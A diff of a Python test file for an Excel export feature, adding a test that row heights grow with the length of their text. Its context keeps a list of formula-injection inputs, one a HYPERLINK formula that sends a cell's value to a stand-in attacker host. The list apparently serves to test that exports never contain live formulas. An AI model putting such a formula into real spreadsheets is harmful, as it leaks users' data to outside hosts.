@@ -1,6 +1,7 @@
 """The matrix for Excel: lists, filters, panes, a hidden record, and never a formula."""
 
 import io
+import re
 from datetime import date
 
 import openpyxl
@@ -12,6 +13,7 @@ from assistant.files.xlsx import matrix_to_xlsx
 from tests.assistant.files.making import draft, matrix_row
 from tests.assistant.files.reading import parts
 
+SHEET = "xl/worksheets/sheet1.xml"
 FORMULAS = [
     '=HYPERLINK("https://evil.example?"&A1,"click")',
     "+1+1",
@@ -80,3 +82,20 @@ def test_every_field_of_a_row_that_people_read_has_a_column():
     fields = set(type(matrix_row(1)).model_fields) - {"confidential", "set_by_people"}
 
     assert {column.field for column in matrix_columns()} == fields
+
+
+def test_a_row_is_as_high_as_its_words_and_grows_with_those_of_people():
+    rows = (matrix_row(1, because="short"), matrix_row(2, because="a long reason " * 30))
+    short, long = (
+        re.search(
+            rf'<row r="{line}"[^>]*>', parts(matrix_to_xlsx(draft(matrix=rows)))[SHEET].decode()
+        )
+        for line in (2, 3)
+    )
+
+    assert height(long[0]) > 4 * height(short[0])
+    assert "customHeight" not in short[0] + long[0]
+
+
+def height(row: str) -> float:
+    return float(re.search(r'ht="([0-9.]+)"', row)[1])
